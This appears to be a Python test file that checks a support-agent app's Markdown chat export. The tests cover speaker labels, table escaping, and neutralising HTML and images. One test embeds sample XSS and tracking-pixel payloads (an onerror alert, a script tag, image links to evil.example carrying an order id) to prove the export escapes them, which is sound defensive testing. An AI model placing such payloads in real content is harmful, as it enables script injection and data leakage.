"""Exports name every speaker as the chat does."""

import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage

from support_agent.features.exports import as_markdown
from support_agent.features.tickets import HUMAN_AGENT
from support_agent.workflows.handoffs import HANDOFFS


def test_markdown_names_agents_by_step_and_a_person_as_the_support_team():
    state = {
        "active_agent": "support_agent",
        "messages": [
            HumanMessage("I can't log in", id="h1"),
            AIMessage("Let's get you signed in.", name="support_agent", id="a1"),
            AIMessage("Hi, I've reset your account.", name=HUMAN_AGENT, id="p1"),
        ],
    }
    markdown = as_markdown(HANDOFFS, state, thread_id="t1", title="Login")
    assert "**Customer**: I can't log in" in markdown
    assert "**Agent (Support agent)**: Let's get you signed in." in markdown
    assert "**Support team**: Hi, I've reset your account." in markdown
    assert "human_agent" not in markdown and "support_agent" not in markdown


# --- nothing in a Markdown export is live -----------------------------------------------

# CommonMark renders raw HTML only from a literal "<" followed by a tag's first
# character, and an image only from a literal "![": an export holding neither
# shows every text as written and loads nothing when it is viewed.
RAW_HTML = re.compile(r"<[A-Za-z/!?]")


def exported(text: str, *, reason: str = "", title: str = "Login", tool_result: str = "") -> str:
    state = {
        "active_agent": "support_agent",
        "turn": 1,
        "transitions": [
            {"id": "c1", "turn": 1, "source": "sales_agent", "target": "support_agent",
             "tool": "transfer_to_support", "reason": reason or "asked for support"},
        ],
        "messages": [
            HumanMessage(text, id="h1"),
            AIMessage("", name="sales_agent", id="a0",
                      tool_calls=[{"name": "transfer_to_support", "args": {"why": text},
                                   "id": "c1"}]),
            ToolMessage(tool_result or "moved", tool_call_id="c1", id="t1"),
            AIMessage(text, name="support_agent", id="a1"),
        ],
    }  # fmt: skip
    return as_markdown(HANDOFFS, state, thread_id="t1", title=title)


def test_html_and_remote_images_in_a_conversation_are_exported_inert():
    text = (
        '<img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script> '
        "![pixel](https://evil.example/p.png?d=order-123) \\![again](http://evil.example/q.png)"
    )
    markdown = exported(text, reason=text, title=text, tool_result=text)
    assert "![" not in markdown and not RAW_HTML.search(markdown)
    # shown as written: the tags as text, the image as a link to click
    assert '**Customer**: &lt;img src="https://evil.example/x.png"' in markdown
    assert "&#33;[pixel](https://evil.example/p.png?d=order-123)" in markdown


def test_a_reason_with_a_bar_or_a_line_break_stays_in_its_table_cell():
    markdown = exported("hi", reason="the customer said a | b\nand more")
    [row] = [line for line in markdown.splitlines() if line.startswith("| 1 |")]
    assert row.endswith("| the customer said a \\| b and more |")


@settings(max_examples=100, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(
    st.lists(st.one_of(st.characters(), st.sampled_from(["<", "!", "[", "\\", "`", "|", "\n"]))),
    st.text(),
)
def test_any_text_exports_with_no_live_html_or_image(pieces, reason):
    text = "".join(pieces)
    markdown = exported(f"x{text}", reason=f"r{text}{reason}", title=f"t{text}", tool_result=text)
    assert "![" not in markdown and not RAW_HTML.search(markdown)
    [row] = [line for line in markdown.splitlines() if line.startswith("| 1 |")]
    assert re.sub(r"\\.", "", row).count("|") == 6  # five cells, whatever the reason holds
